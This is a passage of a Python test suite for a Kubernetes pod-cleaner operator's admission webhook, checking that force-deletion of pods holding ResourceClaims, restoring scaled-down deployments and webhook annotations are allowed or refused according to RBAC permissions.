        "an Event again": ("PATCH", f"/api/v1/namespaces/{s.ns}/events/ours-already", {"count": 2, "message": "n, 中文", "lastTimestamp": "2026-11-22T10:00:00Z"}, MERGE),
        "an announcement": patch(s.zero, annotated("ops-pod-cleaner.io/announced", "errImagePull=2026-11-21T10:22:48Z,crashLoop=2026-11-21T10:22:49Z")),
        "stuck": delete(s.stuck, gracePeriodSeconds=0), "an Event": ("POST", f"/api/v1/namespaces/{s.ns}/events", event(s.ns, "ours", "ops-pod-cleaner"))}
    t.admin.patch(of(s.put_down), annotated("ops-pod-cleaner.io/restore", "now"))
    for what, attempt in served.items():
        code, answer = ask(taken, attempt)
        assert code in (200, 201), f"{what}: {code} {answer}"
    assert t.objects.get(s.stuck) is None, "half-deleted"


@scenario("admission/webhook-annotations", servers=("cluster",))
def webhook_annotations(t):
    """What a mutating webhook notes on each write is taken where the operator has named it, and nothing else is."""
    t.is_mine = lambda _: False
    ns = t.ns()
    user, token, client = account(t, ns)
    down = t.objects.workload("Deployment", ns, 2).top
    own, other = annotated("policies.example.com/checked"), annotated("example.org/checked")
    wall = t.write("wall.yml", f"errImagePull: {{enable: true, namespaces: {ns}}}\n")
    for more, what, allowed in (((), own, False), (("--webhook-annotations", "policies.example.com/"), own, True),
                                (("--webhook-annotations", "policies.example.com/"), other, False)):
        name = f"before-{ns}-{len(more)}-{int(allowed)}"
        t.server.wall(user, wall, name, token, ns, more)
        try:
            code, answer = ask(client, at_once(down, 0, {**noted(2), **what["metadata"]["annotations"]}), dryRun="All")
            assert (code == 200) == allowed and (allowed or "no annotation changes but ours" in answer["message"]), f"{more} {what}: {code} {answer}"
        finally:
            t.server.unwall(name)
    t.admin.request("DELETE", f"{RBAC}/clusterrolebindings/{ns}-taken")


@scenario("admission/claims", servers=("cluster",), needs=("devices",))
def claims(t):
    """Who may delete pods frees no ResourceClaim by force, by whatever way the pod holds it, without the right to."""
    t.is_mine = lambda _: False
    ns = t.ns()
    rules = [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "delete"]},
             {"apiGroups": [""], "resources": ["events"], "verbs": ["create"]}]
    user, token, client = account(t, ns, rules)
    name, made = f"claims-{ns}", [{"name": "gpu", "resourceClaimTemplateName": "gpus"}]
    by_spec, by_status = (t.objects.pod(ns, claims=how) for how in ([{"name": "gpu", "resourceClaimName": "one"}], made))
    t.objects.status(by_status, resourceClaimStatuses=[{"name": "gpu", "resourceClaimName": "made"}])
    free = t.objects.terminate(t.objects.pod(ns), 300)
    held = [t.objects.terminate(pod, 300) for pod in (by_spec, by_status)]
    over = t.objects.evict(t.objects.pod(ns, claims=made))
    t.server.wall(user, t.write("wall.yml", f"deleteTerminatingPod: {{enable: true, namespaces: {ns}}}\n"
                                            f"deleteEvictedPod: {{enable: true, namespaces: {ns}}}\n"), name, token, ns)
    try:
        for pod in held:
            code, answer = ask(client, delete(pod, gracePeriodSeconds=0))
            assert code == 403 and "ResourceClaim" in answer["message"], f"{code} {answer}"
        for request in (delete(free, gracePeriodSeconds=0), delete(over)):
            code, answer = ask(client, request)
            assert code == 200, f"{code} {answer}"
        rules[0]["verbs"].append("force")
        t.admin.patch(f"{RBAC}/namespaces/{ns}/roles/lesser", {"rules": rules})
        t.until("the right to reach the server", lambda: ask(client, delete(held[0], gracePeriodSeconds=0))[0] == 200, 10)
    finally:
        t.server.unwall(name)


@scenario("admission/restorer", servers=("cluster",))
def restorer(t):
    """What stands at 0 comes back only with the right to restore, whatever its mark says."""
    t.is_mine = lambda _: False
    ns = t.ns()
    rules = [{"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["get", "patch"]},
             {"apiGroups": [""], "resources": ["events"], "verbs": ["create"]}]
    user, token, client = account(t, ns, rules)
    name = f"before-{ns}"
    t.server.wall(user, t.write("wall.yml", f"errImagePull: {{enable: true, namespaces: {ns}}}\n"), name, token, ns)
    try:
        up = at_once(Scene.marked(t, ns, 0), 3, AWAY)
        code, answer = ask(client, up)
        assert code == 403 and name in answer["message"], f"{code} {answer}"
        rules[0]["verbs"].append("restore")
        t.admin.patch(f"{RBAC}/namespaces/{ns}/roles/lesser", {"rules": rules})
        t.until("the right to reach the server", lambda: ask(client, up)[0] == 200, 10)
    finally:
        t.server.unwall(name)
